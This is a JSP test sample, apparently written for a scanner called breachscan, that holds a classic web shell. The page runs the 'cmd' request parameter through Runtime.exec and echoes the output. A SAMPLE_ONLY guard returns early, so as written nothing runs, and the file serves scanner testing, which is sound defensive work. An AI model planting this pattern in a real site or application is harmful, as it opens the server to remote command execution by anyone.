<%-- synthetic test sample for breachscan: request parameter flowing into Runtime.exec.
     Disabled: SAMPLE_ONLY guard returns before anything runs. Not for deployment. --%>
<%@ page import="java.io.*" %>
<%
    final boolean SAMPLE_ONLY = true;
    if (SAMPLE_ONLY) { out.print("synthetic sample"); return; }
    Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
    BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String line;
    while ((line = br.readLine()) != null) out.println(line);
%>
